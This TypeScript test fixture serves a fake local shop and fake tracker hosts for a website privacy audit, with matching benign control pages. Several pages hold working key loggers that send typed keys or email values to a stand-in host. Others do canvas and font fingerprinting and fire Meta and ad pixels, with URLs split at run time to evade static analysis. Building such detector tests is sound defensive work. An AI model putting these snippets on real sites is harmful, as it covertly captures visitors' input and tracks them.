import { createHash } from 'node:crypto';
import { createServer as createHttpServer, IncomingMessage, Server as HttpServer, ServerResponse } from 'node:http';
import { createServer as createHttpsServer, Server as HttpsServer } from 'node:https';
import type { Server as NetServer, Socket } from 'node:net';
import { listenOnFreePort } from './local-server';
import { oneServerForBothSchemes, SelfSignedCertificate, selfSignedCertificate } from './websites';

/**
 * Sites for the rendered website audit, on one port of 127.0.0.1 that speaks http and https and
 * routes by Host: the shop under test (shop.test and its variants) and the third parties its
 * scripts call (tracker hosts such as connect.facebook.net, answered by the same server). The app
 * reaches them through FETCH_HOSTS (every name → 127.0.0.1) and FETCH_ALLOWED_ADDRESSES.
 *
 * Every tracking behaviour here appears only when the page's scripts run: the tracker URLs are
 * assembled at run time, so the page's HTML names none of them and a static analysis finds
 * nothing. Each behaviour has a page with it and a page without it, and benign pages do what
 * ordinary sites do (charts, first-party forms, font layout) without tracking anyone.
 */
export interface TrackingRequest {
  host: string;
  method: string;
  path: string;
  query: string;
  body: string;
  gpc: boolean;
}

/** Third-party hosts the fixture scripts call; every one is served by this fake. */
export const TRACKER_HOSTS = [
  'connect.facebook.net',
  'www.facebook.com',
  'static.hotjar.com',
  'www.clarity.ms',
  'stats.g.doubleclick.net',
  'www.googletagmanager.com',
  'analytics.tiktok.com',
  't.co',
  'static.ads-twitter.com',
  'rec.keylog-recorder.example',
  'fp.fingerprint-vendor.example',
  'cdn.static-assets.example',
  // Third parties that set cookies: from an image, from a frame's document, from a script's response.
  'px.ad-image.example',
  'embed.video-frame.example',
  'js.audience-script.example',
] as const;

/** What each cookie-setting third party sets (SameSite=None; Secure, as a third-party cookie must be). */
const THIRD_PARTY_COOKIES: Record<string, string> = {
  'px.ad-image.example': 'IDE=AHWqTU; Domain=ad-image.example; Path=/; Max-Age=34128000; Secure; SameSite=None',
  'embed.video-frame.example': 'VISITOR_INFO1_LIVE=xk2; Domain=video-frame.example; Path=/; Max-Age=15552000; Secure; SameSite=None; HttpOnly',
  'js.audience-script.example': 'aud_uid=u-991; Path=/; Max-Age=31536000; Secure; SameSite=None',
};

export const SITE_HOSTS = ['shop.test', 'www.shop.test'] as const;

/** A run-time URL builder: the page never spells a tracker URL out. */
const join = (...parts: string[]) => parts.map((p) => `'${p}'`).join(' + ');

/** The script of the shop page: Meta pixel, Hotjar, a canvas fingerprint, _ga/_fbp cookies, a key logger. Honours GPC when asked. */
function shopScript(port: number, honourGpc: boolean): string {
  const https = (host: string[], path: string) => `'https://' + ${join(...host)} + ':${port}${path}'`;
  return `
(function () {
  ${honourGpc ? 'if (navigator.globalPrivacyControl) { document.cookie = "consent=declined; path=/"; return; }' : ''}
  var s = document.createElement('script'); s.src = ${https(['connect.face', 'book.net'], '/en_US/fbevents.js')}; document.head.appendChild(s);
  var h = document.createElement('script'); h.src = ${https(['static.hot', 'jar.com'], '/c/hotjar-3141.js?sv=6')}; document.head.appendChild(h);
  document.cookie = '_ga=GA1.1.' + Math.floor(Math.random() * 1e9) + '; max-age=63072000; path=/';
  document.cookie = '_fbp=fb.1.' + Date.now() + '; max-age=7776000; path=/';
  var em = '${createHash('sha256').update('customer@example.com').digest('hex')}';
  new Image().src = ${https(['www.face', 'book.com'], '/tr?id=1234567890&ev=PageView&')} + 'ud[em]=' + em;
  var c = document.createElement('canvas'); c.width = 240; c.height = 60;
  var x = c.getContext('2d'); x.textBaseline = 'top'; x.font = '14px Arial';
  x.fillStyle = '#f60'; x.fillRect(100, 1, 62, 20);
  x.fillStyle = '#069'; x.fillText('Cwm fjordbank glyphs vext quiz, 😃', 2, 15);
  x.fillStyle = 'rgba(102, 204, 0, 0.7)'; x.fillText('Cwm fjordbank glyphs vext quiz, 😃', 4, 17);
  var print = c.toDataURL();
  navigator.sendBeacon(${https(['fp.fingerprint-', 'vendor.example'], '/v1/collect')}, print.slice(-64));
  document.addEventListener('DOMContentLoaded', function () {
    var email = document.querySelector('input[type=email]');
    if (email) email.addEventListener('keyup', function () {
      navigator.sendBeacon(${https(['rec.keylog-', 'recorder.example'], '/collect')}, JSON.stringify({ f: 'email', v: btoa(email.value) }));
    });
  });
})();`;
}

const page = (title: string, body: string, script = '') => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head>
<body><h1>${title}</h1>${body}${script ? `<script>${script}</script>` : ''}</body></html>`;

const SHOP_FORM = '<form action="/checkout" method="post"><label>Email <input type="email" name="email" autocomplete="email"></label><label>Name <input type="text" name="first_name"></label><label>Password <input type="password" name="password"></label><button>Buy</button></form>';

/** Third-party answers: scripts that do what the real ones do, in miniature. */
function trackerAnswer(host: string, path: string, port: number): { type: string; body: string } {
  const js = (body: string) => ({ type: 'application/javascript', body });
  if (host === 'connect.facebook.net') return js(`(function(){ var u = 'https://www.' + 'facebook.com:${port}/tr?id=1234567890&ev=ViewContent'; new Image().src = u; })();`);
  if (host === 'static.hotjar.com') return js(`(function(){ fetch('https://in' + 'sights.hotjar.com:${port}/api/v2/client/sites/3141/visit-data', { method: 'POST', body: '{}' }).catch(function(){}); })();`);
  return host.endsWith('.js') || path.endsWith('.js') ? js('/* ok */') : { type: 'text/plain', body: 'ok' };
}

/** The fixture pages, by path (served on every SITE_HOSTS name). */
function pages(port: number): Record<string, string> {
  const https = (host: string[], path: string) => `'https://' + ${join(...host)} + ':${port}${path}'`;
  /** A search box whose key listener sends each key press (`send` sees `e` and KEYS, the logger's address). */
  const keyLogger = (name: string, send: string) =>
    page('Search', `<label>Search the shop <input type="search" name="q${name}"></label>`, `var KEYS = ${https(['rec.keylog-', 'recorder.example'], '/keys')};
       document.querySelector('input').addEventListener('keydown', function (e) { if (e.key.length === 1) { ${send} } });`);
  const loadScript = (host: string[], path: string) => `var s = document.createElement('script'); s.src = ${https(host, path)}; document.head.appendChild(s);`;
  return {
    // The shop of the issue: five behaviours, all from scripts, none in the HTML.
    '/shop': page('Lantern Shop', `<p>Lamps and lanterns.</p>${SHOP_FORM}`, shopScript(port, false)),
    '/shop-gpc': page('Lantern Shop', `<p>Lamps and lanterns.</p>${SHOP_FORM}`, shopScript(port, true)),
    // ---- one behaviour each, present
    '/canvas-fingerprint': page(
      'Canvas',
      '',
      `var c = document.createElement('canvas'); c.width = 220; c.height = 30; var x = c.getContext('2d');
       x.fillStyle = '#f60'; x.fillRect(1, 1, 60, 20); x.fillStyle = '#069'; x.fillText('Sphinx of black quartz, judge my vow', 2, 15);
       window.__print = c.toDataURL();`,
    ),
    '/font-fingerprint': page(
      'Fonts',
      '',
      `var x = document.createElement('canvas').getContext('2d'); var base = ['monospace', 'sans-serif', 'serif'];
       var fonts = ['Arial','Helvetica','Times New Roman','Courier New','Verdana','Georgia','Palatino','Garamond','Bookman','Comic Sans MS','Trebuchet MS','Arial Black','Impact','Tahoma','Lucida Console','Lucida Sans','Monaco','Consolas','Calibri','Cambria','Candara','Constantia','Corbel','Franklin Gothic','Futura','Gill Sans','Optima','Rockwell','Segoe UI','Ubuntu','Roboto','Open Sans','Lato','Montserrat','Noto Sans','DejaVu Sans','Liberation Sans','Cantarell','Fira Sans','Droid Sans','Baskerville','Didot','Bodoni','Century Gothic','Avenir','Myriad Pro','Minion Pro','Hoefler Text','Big Caslon','Copperplate','Papyrus','Brush Script MT','Menlo','Andale Mono'];
       fonts.forEach(function (f) { x.font = '72px "' + f + '", monospace'; x.measureText('mmmmmmmmmmlli'); });`,
    ),
    '/session-recorder': page('Recorder', '<p>Support page.</p>', loadScript(['www.clar', 'ity.ms'], '/tag/abc123')),
    '/key-logger': page('Newsletter', '<label>Email <input type="email" name="email"></label>', `
       document.querySelector('input').addEventListener('input', function (e) {
         fetch(${https(['rec.keylog-', 'recorder.example'], '/capture')} + '?h=' + encodeURIComponent(e.target.value), { mode: 'no-cors' }).catch(function(){});
       });`),
    '/key-logger-hashed': page('Sign up', '<label>Email <input type="email" name="email"></label>', `
       var input = document.querySelector('input');
       input.addEventListener('blur', function () {
         crypto.subtle.digest('SHA-256', new TextEncoder().encode(input.value.trim().toLowerCase())).then(function (d) {
           var hex = Array.from(new Uint8Array(d)).map(function (b) { return b.toString(16).padStart(2, '0'); }).join('');
           navigator.sendBeacon(${https(['rec.keylog-', 'recorder.example'], '/id')}, 'uid=' + hex);
         });
       });`),
    '/meta-pixel': page('Meta', '', `new Image().src = ${https(['www.face', 'book.com'], '/tr?id=99887766&ev=AddToCart&cd[value]=12&ud[em]=')} + '${createHash('sha256').update('a@b.example').digest('hex')}&ud[ph]=' + '${createHash('sha256').update('15550100').digest('hex')}';`),
    '/meta-pixel-basic': page('Meta basic', '', `new Image().src = ${https(['www.face', 'book.com'], '/tr?id=99887766&ev=PageView')};`),
    '/remarketing': page('Remarketing', '', `navigator.sendBeacon(${https(['stats.g.double', 'click.net'], '/g/collect?v=2&tid=G-TEST123&gtm=45je')});`),
    '/tiktok-x': page(
      'Pixels',
      '',
      `fetch(${https(['analytics.tik', 'tok.com'], '/api/v2/pixel')}, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ event: 'ViewContent', pixel_code: 'CTEST123', context: { user: { sha256_email: 'ab12' } } }) }).catch(function(){});
       new Image().src = ${https(['t', '.co'], '/1/i/adsct?txn_id=o1abc&p_id=Twitter&events=%5B%5B%22pageview%22%2C%7B%7D%5D%5D')};`,
    ),
    '/gpc-honoured': page('Honours GPC', '', `if (!navigator.globalPrivacyControl) { ${loadScript(['connect.face', 'book.net'], '/en_US/fbevents.js')} document.cookie = '_fbp=fb.1.2; max-age=9000; path=/'; }`),
    '/gpc-ignored': page('Ignores GPC', '', `${loadScript(['connect.face', 'book.net'], '/en_US/fbevents.js')} document.cookie = '_fbp=fb.1.2; max-age=9000; path=/';`),
    // ---- a visit like a person's: tags that wait for time, the mouse, scrolling or key presses
    '/delayed-pixel': page('Delayed', '<p>Reading takes time.</p>', `setTimeout(function () { new Image().src = ${https(['www.face', 'book.com'], '/tr?id=44556677&ev=PageView')}; }, 4000);`),
    '/mouse-pixel': page(
      'Mouse',
      '<p>Move along.</p>',
      `document.addEventListener('mousemove', function once() { document.removeEventListener('mousemove', once); new Image().src = ${https(['t', '.co'], '/1/i/adsct?txn_id=mouse1&p_id=Twitter&events=%5B%5B%22pageview%22%2C%7B%7D%5D%5D')}; });`,
    ),
    '/scroll-pixel': page(
      'Long read',
      '<div style="height:4000px">A long article.</div><p id="end">The end.</p>',
      `window.addEventListener('scroll', function () { if (window.scrollY + innerHeight >= document.documentElement.scrollHeight - 10 && !window.__sent) { window.__sent = 1; navigator.sendBeacon(${https(['stats.g.double', 'click.net'], '/g/collect?v=2&tid=G-SCROLL9')}); } });`,
    ),
    '/key-events-plain': keyLogger('k', 'fetch(KEYS + "?t=" + Date.now() + "&k=" + encodeURIComponent(e.key), { mode: "no-cors" }).catch(function(){});'),
    '/key-events-json': keyLogger('j', 'navigator.sendBeacon(KEYS, JSON.stringify({ ts: Date.now(), e: { key: e.key } }));'),
    '/key-events-base64': keyLogger('b', 'new Image().src = KEYS + "?c=" + encodeURIComponent(btoa(e.key));'),
    // The email field's value, sent as JSON with @ and . written as \u escapes, once it is long enough.
    '/key-value-escaped': page('Join', '<label>Email <input type="email" name="email"></label>', `var KEYS = ${https(['rec.keylog-', 'recorder.example'], '/v')};
       document.querySelector('input').addEventListener('keyup', function (e) { var v = e.target.value; if (v.length > 20) navigator.sendBeacon(KEYS, JSON.stringify({ v: v }).replace(/[@.]/g, function (c) { return '\\\\u00' + c.charCodeAt(0).toString(16); })); });`),
    // Third-party cookies, from an image, a frame and a script (and a page whose third parties set none).
    '/third-party-cookies': page(
      'Embeds',
      '<p>A video and an ad.</p>',
      `var i = new Image(); i.src = ${https(['px.ad-', 'image.example'], '/pixel.gif')}; document.body.appendChild(i);
       var f = document.createElement('iframe'); f.src = ${https(['embed.video-', 'frame.example'], '/embed/abc')}; document.body.appendChild(f);
       ${loadScript(['js.audience-', 'script.example'], '/tag.js')}`,
    ),
    // ---- benign pages: ordinary sites, no tracking
    '/benign/chart': page(
      'Sales chart',
      '<canvas id="chart" width="400" height="200"></canvas>',
      `var c = document.getElementById('chart'); var x = c.getContext('2d'); var data = [12, 19, 3, 5, 2, 3];
       c.addEventListener('mousemove', function () {});
       data.forEach(function (v, i) { x.save(); x.fillStyle = i % 2 ? '#36a2eb' : '#ff6384'; x.fillRect(20 + i * 60, 180 - v * 8, 40, v * 8); x.fillStyle = '#333'; x.fillText('Quarterly revenue ' + (i + 1), 20 + i * 60, 195); x.restore(); });`,
    ),
    '/benign/colour-picker': page(
      'Colour picker',
      '<canvas id="wheel" width="300" height="150"></canvas>',
      `var x = document.getElementById('wheel').getContext('2d'); x.fillStyle = 'hsl(200, 80%, 50%)'; x.fillRect(0, 0, 300, 150); x.fillStyle = '#fff'; x.fillText('Pick a colour anywhere', 10, 20);
       var px = x.getImageData(150, 75, 1, 1);`,
    ),
    '/benign/favicon-badge': page(
      'Inbox',
      '',
      `var c = document.createElement('canvas'); c.width = 12; c.height = 12; var x = c.getContext('2d'); x.fillStyle = 'red'; x.fillText('3 new messages', 0, 10); var link = c.toDataURL();`,
    ),
    '/benign/drawing-app': page(
      'Sketch pad',
      '<canvas id="pad" width="500" height="300"></canvas>',
      `var c = document.getElementById('pad'); var x = c.getContext('2d'); c.addEventListener('pointerdown', function () {});
       x.fillStyle = '#222'; x.fillText('Draw something beautiful here', 10, 20); x.fillStyle = '#eee'; localStorage.setItem('sketch', c.toDataURL());`,
    ),
    '/benign/text-layout': page(
      'Typesetting',
      '<p id="t">Some text to lay out.</p>',
      `var x = document.createElement('canvas').getContext('2d'); ['16px Georgia', '16px Arial', 'bold 16px Arial', '12px monospace'].forEach(function (f) {
         x.font = f; for (var i = 0; i < 80; i++) x.measureText('word number ' + i);
       });`,
    ),
    '/benign/first-party-form': page(
      'Contact us',
      '<label>Email <input type="email" name="email"></label><label>Message <textarea name="message"></textarea></label>',
      `var e = document.querySelector('input'); e.addEventListener('input', function () { fetch('/api/validate-email?value=' + encodeURIComponent(e.value)).catch(function(){}); });`,
    ),
    '/benign/site-search': page(
      'Search',
      '<label>Search <input type="search" name="q"></label>',
      `var q = document.querySelector('input'); q.addEventListener('keyup', function () { fetch('/suggest', { method: 'POST', body: JSON.stringify({ q: q.value }) }).catch(function(){}); });`,
    ),
    '/benign/cdn-assets': page('Docs', '<p>Documentation.</p>', loadScript(['cdn.static-', 'assets.example'], '/lib/highlight.min.js')),
    '/benign/first-party-analytics': page(
      'Blog',
      '<p>A post.</p>',
      `document.cookie = 'session_pref=compact; path=/'; localStorage.setItem('theme', 'dark'); navigator.sendBeacon('/stats', JSON.stringify({ path: location.pathname }));`,
    ),
    '/benign/canvas-game': page(
      'Game',
      '<canvas id="g" width="320" height="240"></canvas>',
      `var x = document.getElementById('g').getContext('2d'); for (var f = 0; f < 3; f++) { x.save(); x.fillStyle = '#0a0'; x.fillRect(f * 10, 100, 16, 16); x.fillStyle = '#fff'; x.fillText('Score: ' + (f * 100) + ' points so far', 10, 20); var hit = x.getImageData(f * 10, 100, 8, 8); x.restore(); }`,
    ),
    // A timer and key presses that stay on the site: its own late beacon, its own per-key suggestions.
    '/benign/late-first-party': page('Late', '<p>Stats later.</p>', `setTimeout(function () { navigator.sendBeacon('/stats', 'read=1'); }, 3000);`),
    '/benign/search-suggest-keys': page(
      'Suggest',
      '<label>Search <input type="search" name="q"></label>',
      `document.querySelector('input').addEventListener('keydown', function (e) { fetch('/suggest?k=' + encodeURIComponent(e.key)).catch(function(){}); });`,
    ),
    // Consent-gated tags: Meta's and TikTok's pixels sit in the HTML as type="text/plain" and run only
    // when the visitor clicks "Accept" (which the visit never does): named in the code, not loaded.
    '/consent-gated': page(
      'Consent',
      `<div id="banner"><p>We would like to use marketing cookies.</p><button id="accept">Accept</button> <button id="reject">Reject</button></div>
       <script type="text/plain" data-consent="marketing" src="https://connect.facebook.net:${port}/en_US/fbevents.js"></script>
       <script type="text/plain" data-consent="marketing" src="https://analytics.tiktok.com:${port}/i18n/pixel/events.js?sdkid=CGATED1"></script>`,
      `document.getElementById('accept').addEventListener('click', function () {
         document.querySelectorAll('script[data-consent]').forEach(function (held) { var s = document.createElement('script'); s.src = held.src; document.head.appendChild(s); });
       });`,
    ),
    '/benign/share-links': page(
      'Article',
      '<p><a href="https://www.facebook.com/sharer/sharer.php?u=https://shop.test/">Share</a> <a href="https://twitter.com/intent/tweet">Post</a></p>',
    ),
  };
}

export const BENIGN_PAGES = [
  '/benign/chart',
  '/benign/colour-picker',
  '/benign/favicon-badge',
  '/benign/drawing-app',
  '/benign/text-layout',
  '/benign/first-party-form',
  '/benign/site-search',
  '/benign/cdn-assets',
  '/benign/first-party-analytics',
  '/benign/canvas-game',
  '/benign/share-links',
  '/benign/late-first-party',
  '/benign/search-suggest-keys',
] as const;

export class TrackingSites {
  readonly requests: TrackingRequest[] = [];
  private net?: NetServer;
  private http?: HttpServer;
  private https?: HttpsServer;
  private readonly sockets = new Set<Socket>();
  private listeningPort?: number;
  private pageTable: Record<string, string> = {};

  constructor(private readonly host = '127.0.0.1') {}

  get port(): number {
    if (this.listeningPort === undefined) throw new Error('TrackingSites is not started');
    return this.listeningPort;
  }

  url(path: string, host: string = SITE_HOSTS[0], scheme: 'http' | 'https' = 'https'): string {
    return `${scheme}://${host}:${this.port}${path}`;
  }

  /** The environment the app needs to reach these sites (and nothing else local). */
  env(): Record<string, string> {
    const names = [...SITE_HOSTS, ...TRACKER_HOSTS, 'insights.hotjar.com'];
    return {
      FETCH_HOSTS: names.map((name) => `${name}=${this.host}`).join(','),
      FETCH_ALLOWED_ADDRESSES: `${this.host}/32`,
      FETCH_ALLOWED_PORTS: `80,443,${this.port}`,
    };
  }

  requestsTo(host: string): TrackingRequest[] {
    return this.requests.filter((r) => r.host === host);
  }

  /** `port`: a fixed one (a bench pointing an app started elsewhere at these sites); a free one otherwise. */
  async start(certificate: SelfSignedCertificate | undefined = selfSignedCertificate(), port = 0): Promise<this> {
    const handler = (req: IncomingMessage, res: ServerResponse) => void this.handle(req, res);
    this.http = createHttpServer(handler);
    if (certificate) this.https = createHttpsServer({ key: certificate.key, cert: certificate.cert }, handler);
    this.net = oneServerForBothSchemes(this.http, this.https, this.sockets);
    this.listeningPort = await listenOnFreePort(this.net, this.host, port);
    this.pageTable = pages(this.listeningPort);
    return this;
  }

  async close(): Promise<void> {
    for (const socket of this.sockets) socket.destroy();
    await Promise.all([this.net, this.http, this.https].map((s) => (s?.listening ? new Promise<void>((resolve) => s.close(() => resolve())) : undefined)));
  }

  private async handle(req: IncomingMessage, res: ServerResponse): Promise<void> {
    const chunks: Buffer[] = [];
    for await (const chunk of req) chunks.push(chunk as Buffer);
    const url = new URL(req.url ?? '/', 'http://x');
    const host = (req.headers.host ?? '').replace(/:\d+$/, '').toLowerCase();
    this.requests.push({ host, method: req.method ?? 'GET', path: url.pathname, query: url.search, body: Buffer.concat(chunks).toString('utf8').slice(0, 10_000), gpc: req.headers['sec-gpc'] === '1' });
    if ((SITE_HOSTS as readonly string[]).includes(host)) {
      const html = this.pageTable[url.pathname];
      if (html) return void res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'set-cookie': 'sid=s1; Path=/; HttpOnly; Secure; SameSite=Lax' }).end(html);
      return void res.writeHead(url.pathname === '/' ? 200 : 404, { 'content-type': 'text/plain' }).end('ok');
    }
    const answer = trackerAnswer(host, url.pathname, this.port);
    const cookie = host === 'www.facebook.com' ? 'fr=0abc; Domain=facebook.com; Path=/; Max-Age=7776000; Secure; SameSite=None' : THIRD_PARTY_COOKIES[host];
    res.writeHead(200, {
      'content-type': host === 'embed.video-frame.example' ? 'text/html; charset=utf-8' : answer.type,
      'access-control-allow-origin': '*',
      ...(cookie ? { 'set-cookie': cookie } : {}),
    });
    res.end(answer.body);
  }
}
